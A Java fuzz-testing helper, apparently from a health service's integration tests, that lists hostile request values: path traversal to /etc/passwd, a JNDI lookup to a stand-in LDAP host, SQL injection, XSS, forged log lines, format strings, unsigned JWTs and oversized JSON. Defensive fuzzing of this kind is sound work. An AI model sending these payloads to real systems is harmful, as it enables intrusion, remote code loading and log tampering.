package no.helseprofil.it.fuzz;

import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Random;

/**
 * Hostile values to put where a value belongs. A character is a byte of the request, so UTF-8 stands here as its bytes.
 */
final class HostileValues {

    /** Line that looks in the log as if somebody else had written it. */
    static final String FORGED_LINE = "2026-01-01 00:00:00,000 ERROR [forged.Line] (main) nobody wrote this";

    private static final int LONG = 6_000;

    private static final List<String> VALUES = List.of(
            "",
            " ",
            "\0",
            "%00",
            "%",
            "%zz",
            "%c0%ae%c0%ae%c0%af",
            "%ed%a0%80",
            "%0d%0a" + FORGED_LINE.replace(' ', '+'),
            "%0a" + FORGED_LINE.replace(' ', '+'),
            "\r" + FORGED_LINE,
            "%E2%80%A8" + FORGED_LINE.replace(' ', '+'),
            "%C2%85" + FORGED_LINE.replace(' ', '+'),
            "%1b[2J%1b[31m",
            utf8("æøå \u202e\u2066 \ud83d\ude80 \ufeff"),
            "\u00ff\u00fe",
            "../../../../etc/passwd",
            "..%2f..%2f..%2fetc%2fpasswd",
            "..;/admin/master",
            "//elsewhere.example/",
            "${jndi:ldap://elsewhere.example/a}",
            "${env.PATH}",
            "{0}{1,number}{2",
            "%s%n%d%x",
            "' or '1'='1' --",
            "<script>alert(1)</script>",
            "&#0;&xxe;",
            "null",
            "true",
            "-1",
            "9223372036854775808",
            "1e400",
            "NaN",
            "0x41",
            "2026-02-30T25:61:61Z",
            "+1000000000-12-31T23:59:59Z",
            "P999999999999Y",
            "[]",
            "{}",
            "{\"a\":",
            "{\"a\":1,\"a\":2}",
            "[".repeat(2_000),
            "{\"a\":".repeat(1_000),
            "\"" + "a".repeat(LONG) + "\"",
            "a".repeat(LONG),
            "a,".repeat(LONG / 2),
            "a%20".repeat(LONG / 4),
            "eyJhbGciOiJub25lIn0.e30.",
            "eyJhbGciOiJFUzI1NiJ9.e30.AAAA",
            "eyJhbGciOiJkaXIiLCJlbmMiOiJBMTI4R0NNIiwiemlwIjoiREVGIn0..AAAA.AAAA.AAAA",
            "e30.e30.e30",
            "a.b.c.d.e",
            "....",
            "urn:ietf:params:oauth:request_uri:unknown",
            "00000000-0000-0000-0000-000000000000",
            "*",
            "?first=-1&max=2147483648",
            "#fragment",
            ";jsessionid=1",
            "\"\\\"");

    private HostileValues() {}

    static int size() {
        return VALUES.size();
    }

    /** One of them, or two of them after each other. */
    static String any(Random random) {
        String value = VALUES.get(random.nextInt(VALUES.size()));
        return random.nextInt(8) == 0 ? value + VALUES.get(random.nextInt(VALUES.size())) : value;
    }

    /**
     * Returns such a value for a place where a space, a line break or a null would end the request's first line or a
     * header. These characters are encoded there, as they must be.
     */
    static String inOneLine(Random random) {
        return any(random).replace(" ", "%20").replace("\r", "%0d").replace("\0", "%00");
    }

    private static String utf8(String text) {
        return new String(text.getBytes(StandardCharsets.UTF_8), StandardCharsets.ISO_8859_1);
    }
}
